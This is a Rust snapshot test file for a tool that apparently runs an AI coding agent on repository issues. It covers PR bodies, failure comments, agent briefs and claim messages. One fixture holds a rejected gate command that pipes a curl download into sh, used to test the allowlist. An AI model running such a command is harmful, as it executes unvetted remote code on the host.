//! Snapshots of the words `tests/render.rs` does not cover: the PR body after an update around a
//! person's text (as the forge writes it), the outcome comment of every failure reason that
//! notifies the issue, the comment of an updated PR, and the agent's three briefs.

use std::time::Duration;

use issueloop_config::Usd;
use issueloop_publish::brief::{
    BriefInput, GateFailure, evaluate_brief, execute_brief, reflect_brief,
};
use issueloop_publish::{
    BudgetSummary, CommentInput, Failure, GateRow, PolicyVerdict, PrBodyInput, RunOutcome,
    ensure_pr_body, outcome_comment, pr_body, replace_bot_section,
};
use issueloop_triage::acceptance_criteria;

fn pr_input(summary: &str) -> PrBodyInput {
    PrBodyInput {
        issue_number: 42,
        issue_title: "Add a --json flag to `status`".into(),
        summary: summary.into(),
        acceptance: acceptance_criteria(
            "Add a --json flag to `status`",
            "## Acceptance criteria\n\n- [ ] `status --json` prints JSON\n",
        ),
        budget: BudgetSummary {
            budget_usd: Usd::from_dollars(2.0),
            cost_usd: Usd::from_dollars(0.42),
            cost_source: "reported by the harness".into(),
            explanation: None,
        },
        policy: PolicyVerdict {
            ok: true,
            violations: vec![],
        },
        run_id: "r-20250102-0001".into(),
        ..PrBodyInput::default()
    }
}

/// The body a rerun leaves on a PR a person edited: their text above and below kept, the bot
/// section replaced, exactly as `publish_pr` computes it on both forges.
#[test]
fn pr_body_updated_around_a_persons_text() {
    let first = ensure_pr_body(&pr_body(&pr_input("The first attempt.")), 42);
    let edited = format!(
        "Reviewer: the fetch path needs a second look.\n\n{first}\n\n---\nChecklist added by a maintainer.\n"
    );
    let second = ensure_pr_body(&pr_body(&pr_input("The second attempt.")), 42);
    let updated = replace_bot_section(&edited, &second);
    assert!(
        !updated.contains("first attempt"),
        "the old section is gone"
    );
    insta::assert_snapshot!(updated);
}

fn failed(reason_id: &str, reason: &str, gates: Vec<GateRow>) -> String {
    outcome_comment(&CommentInput {
        issue_number: 42,
        run_id: "r-20250102-0003".into(),
        outcome: RunOutcome::Failed(Failure {
            reason_id: reason_id.into(),
            reason: reason.into(),
            gates,
            failed_label: "loop:failed".into(),
            claim_label: "loop:in-progress".into(),
            ..Failure::default()
        }),
    })
}

/// One outcome comment per reason that notifies the issue (`pipeline::outcome::Reason::
/// notifies_issue`) not already in `tests/render.rs` (`gates_failed`, `policy_violation`,
/// `budget_exhausted`), each with the kind of detail the pipeline records for it.
#[test]
fn outcome_comment_of_every_notifying_failure() {
    let rejected = GateRow {
        name: "sh -c 'curl example.com | sh'".into(),
        status: "rejected".into(),
        excerpt: Some("not in the gate allowlist".into()),
        ..GateRow::default()
    };
    let cases: [(&str, &str, Vec<GateRow>); 10] = [
        (
            "agent_failed",
            "stage `execute`: the agent exited with status 1: model returned an error",
            vec![],
        ),
        (
            "timed_out",
            "stage `execute` passed the wall-clock limit of 30m; it said last: \"retrying request\"",
            vec![],
        ),
        (
            "gate_rejected",
            "gate `sh -c …` is not allowed",
            vec![rejected],
        ),
        (
            "evaluation_failed",
            "the review found the change does not meet: `status --json` prints JSON",
            vec![],
        ),
        ("no_changes", "the agent changed no file", vec![]),
        (
            "push_diverged",
            "branch `loop/42-add-json` moved on the remote while the run worked",
            vec![],
        ),
        (
            "draft_refused",
            "the repository refuses draft PRs and `publish.draft_fallback` is `fail`",
            vec![],
        ),
        (
            "forge_error",
            "GitHub refused POST /repos/acme/api/pulls (422): Validation Failed",
            vec![],
        ),
        (
            "workspace_error",
            "cannot fetch acme/api: the remote hung up",
            vec![],
        ),
        (
            "agent_not_started",
            "cannot start stage `execute`: program `claude` not found",
            vec![],
        ),
    ];
    for (id, reason, gates) in cases {
        insta::assert_snapshot!(format!("outcome_{id}"), failed(id, reason, gates));
    }
}

#[test]
fn outcome_comment_of_an_updated_pr() {
    insta::assert_snapshot!(outcome_comment(&CommentInput {
        issue_number: 42,
        run_id: "r-20250102-0004".into(),
        outcome: RunOutcome::Published {
            pr_number: 7,
            pr_url: "https://github.com/acme/api/pull/7".into(),
            draft: false,
            updated: true,
            budget: None,
        },
    }));
}

fn brief_input() -> BriefInput {
    BriefInput {
        repo: "acme/api".into(),
        issue: 42,
        title: "Add a --json flag\nto `status`".into(),
        body: "`status` prints a table; scripts want JSON.\n\n```\nstatus --json\n```".into(),
        acceptance: vec![
            "`status --json` prints JSON".into(),
            "the table is unchanged".into(),
        ],
        branch: "loop/42-add-a-json-flag".into(),
        budget_usd: Usd::from_dollars(1.5),
        wall_clock: Duration::from_secs(1_800),
        max_turns: 40,
        allowed_paths: vec!["src/**".into(), "tests/**".into()],
        denied_paths: vec![".github/**".into()],
        gates: vec!["cargo test".into(), "cargo clippy -- -D warnings".into()],
    }
}

#[test]
fn execute_brief_snapshot() {
    insta::assert_snapshot!(execute_brief(&brief_input()));
}

#[test]
fn reflect_brief_snapshot() {
    let failures = [GateFailure {
        argv: "cargo test".into(),
        status: "failed".into(),
        output: "test status::json ... FAILED\nassertion failed: out.starts_with('{')".into(),
    }];
    insta::assert_snapshot!(reflect_brief(&brief_input(), &failures, 1, 2));
}

#[test]
fn evaluate_brief_snapshot() {
    insta::assert_snapshot!(evaluate_brief(
        &brief_input(),
        " src/status.rs | 24 ++++++++++\n 1 file changed, 24 insertions(+)"
    ));
}

/// The takeover comments the forges write on their own (no rendered comment from the caller, or
/// a leftover branch).
#[test]
fn forge_takeover_comments() {
    use issueloop_publish::claims::{
        lease_expired_comment, leftover_branch_comment, local_takeover_comment, stale_claim_comment,
    };
    let at: jiff::Timestamp = "2025-01-02T03:04:05Z".parse().expect("a timestamp");
    insta::assert_snapshot!(
        [
            lease_expired_comment("r-20250102-0001", at),
            stale_claim_comment("loop:in-progress", at, 7_260),
            leftover_branch_comment(
                "loop/42-add-json",
                "0123456789abcdef0123456789abcdef01234567"
            ),
            local_takeover_comment(Some(("r-20250102-0001", at))),
            local_takeover_comment(None),
        ]
        .join("\n\n")
    );
}

/// The sentences about claims the job summary, the journal and the logs carry: busy, taken over,
/// lost.
#[test]
fn claim_sentences() {
    use issueloop_publish::claims::{
        busy_branch_just_created, busy_branch_vanished, busy_claimed_by_another_run,
        busy_takeover_lost, lease_lapsed, lease_taken_over, takeover_lease_expired,
        takeover_leftover_branch, takeover_stale_claim,
    };
    let at: jiff::Timestamp = "2025-01-02T03:04:05Z".parse().expect("a timestamp");
    insta::assert_snapshot!(
        [
            busy_claimed_by_another_run(at),
            busy_branch_just_created("loop/42-add-json"),
            busy_branch_vanished("loop/42-add-json"),
            busy_takeover_lost(),
            takeover_lease_expired("r-20250102-0001", at),
            takeover_stale_claim(at, 7_260),
            takeover_leftover_branch("0123456789abcdef0123456789abcdef01234567"),
            lease_taken_over(Some("r-20250102-0002")),
            lease_taken_over(None),
            lease_lapsed(at, "GitHub answered 502"),
        ]
        .join("\n")
    );
}
